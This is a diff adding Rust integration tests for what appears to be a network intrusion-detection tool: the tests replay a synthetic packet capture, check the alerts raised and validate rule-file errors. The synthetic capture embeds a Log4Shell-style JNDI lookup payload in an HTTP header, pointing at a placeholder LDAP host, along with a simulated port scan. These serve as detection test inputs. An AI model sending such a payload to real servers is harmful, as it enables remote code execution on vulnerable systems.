@@ -158,3 +158,110 @@ fn containers_as_json_is_one_object_a_line() {
         );
     }
 }
+
+/// A capture with a handshake and one exploit request, and a scan of 40 ports behind it.
+fn capture() -> Vec<u8> {
+    let mut file = Vec::new();
+    for word in [0xa1b2_c3d4_u32, 0x0004_0002, 0, 0, 65_535, 101] {
+        file.extend(word.to_ne_bytes());
+    }
+    let mut packet = |from: u8, sport: u16, dport: u16, sequence: u32, flags: u8, data: &[u8]| {
+        let (low, high) = if from == 1 { (1, 2) } else { (2, 1) };
+        let length = u16::try_from(40 + data.len()).unwrap();
+        let mut bytes = vec![0x45, 0];
+        bytes.extend(length.to_be_bytes());
+        bytes.extend([0, 0, 0, 0, 64, 6, 0, 0, 198, 18, 0, low, 198, 18, 0, high]);
+        bytes.extend(sport.to_be_bytes());
+        bytes.extend(dport.to_be_bytes());
+        bytes.extend(sequence.to_be_bytes());
+        bytes.extend([0, 0, 0, 1, 0x50, flags, 255, 255, 0, 0, 0, 0]);
+        bytes.extend(data);
+        let microseconds = u32::try_from(file.len()).unwrap();
+        let captured = u32::from(length);
+        for word in [1_700_000_000, microseconds, captured, captured] {
+            file.extend(word.to_ne_bytes());
+        }
+        file.extend(bytes);
+    };
+    packet(1, 40_000, 80, 99, 0x02, b"");
+    packet(2, 80, 40_000, 99, 0x12, b"");
+    packet(1, 40_000, 80, 100, 0x10, b"");
+    let request = b"GET / HTTP/1.1\r\nX: ${jndi:ldap://198.51.100.1/a}\r\n\r\n";
+    packet(1, 40_000, 80, 100, 0x18, request);
+    for port in 1_000..1_040 {
+        packet(1, 41_000, port, 1, 0x02, b"");
+        packet(2, port, 41_000, 1, 0x14, b"");
+    }
+    file
+}
+
+#[test]
+fn replay_finds_what_a_capture_holds_and_says_where_it_ends() {
+    let folder = tempfile::tempdir().unwrap();
+    let path = folder.path().join("attack.pcap");
+    let whole = capture();
+    fs::write(&path, &whole).unwrap();
+    let path = path.to_str().unwrap();
+    let output = run(&["replay", path, "--log-level", "error"]);
+    assert!(output.status.success(), "{}", stderr(&output));
+    let alerts: Vec<serde_json::Value> = stdout(&output)
+        .lines()
+        .map(|line| serde_json::from_str(line).unwrap())
+        .collect();
+    let sids: Vec<_> = alerts
+        .iter()
+        .map(|e| e["alert"]["signature_id"].as_u64())
+        .collect();
+    assert!(sids.contains(&Some(7_000_002)), "{sids:?}");
+    let scan = alerts.iter().find(|e| e["alert"]["gid"] == 7_001).unwrap();
+    assert_eq!(scan["attack"][0], "T1046");
+    assert_eq!(scan["src_container"]["reason"], "capture_file");
+    assert_eq!(alerts.last().unwrap()["event_type"], "stats");
+
+    fs::write(path, &whole[..whole.len() - 7]).unwrap();
+    let output = run(&["replay", path, "--log-level", "error"]);
+    assert_eq!(output.status.code(), Some(1));
+    assert!(
+        stderr(&output).contains("attack.pcap"),
+        "{}",
+        stderr(&output)
+    );
+    assert!(
+        stdout(&output).contains("7000002"),
+        "what was good has been inspected"
+    );
+    fs::write(path, "no capture").unwrap();
+    assert_eq!(run(&["replay", path]).status.code(), Some(1));
+    let missing = run(&["replay", path, "--rules", "/no/such.rules"]);
+    assert_eq!(missing.status.code(), Some(3));
+    assert!(stderr(&missing).contains("/no/such.rules"));
+}
+
+#[test]
+fn rules_check_shows_every_error_with_its_place() {
+    let good = run(&["rules", "check"]);
+    assert!(good.status.success(), "the starter set: {}", stdout(&good));
+    let folder = tempfile::tempdir().unwrap();
+    let path = folder.path().join("own.rules");
+    let text = "alert tcp any any -> any any (msg:\"a\"; content:\"x\"; sid:1; rev:1;)\n\
+                alert tcp any any -> any any (msg:\"b\"; pcre:\"/x/\"; sid:2; rev:1;)\n\
+                alert tcp any any -> any any (msg:\"c\"; contnet:\"x\"; sid:3; rev:1;)\n";
+    fs::write(&path, text).unwrap();
+    let path = path.to_str().unwrap();
+    let checked = run(&["rules", "check", path]);
+    assert_eq!(checked.status.code(), Some(3));
+    let shown = stdout(&checked);
+    assert!(
+        shown.contains("own.rules:2:40: error: keyword `pcre`"),
+        "{shown}"
+    );
+    assert!(shown.contains("own.rules:3:40: error"), "{shown}");
+    assert!(shown.contains("did you mean `content`?"), "{shown}");
+    assert!(
+        shown.ends_with("1 rules loaded, 2 errors, 0 warnings\n"),
+        "{shown}"
+    );
+    let listed = run(&["rules", "list"]);
+    assert!(stdout(&listed).lines().count() >= 25);
+    assert!(stdout(&listed).contains("T1190"));
+}
